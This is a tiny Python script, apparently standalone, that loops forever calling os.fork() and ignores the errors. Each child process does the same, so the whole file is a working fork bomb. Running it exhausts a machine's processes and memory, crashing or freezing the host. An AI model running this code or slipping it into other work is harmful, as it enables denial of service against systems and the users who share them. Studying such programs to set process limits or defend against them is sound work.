"""Forks as often as it can, and so do its children."""

from __future__ import annotations

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
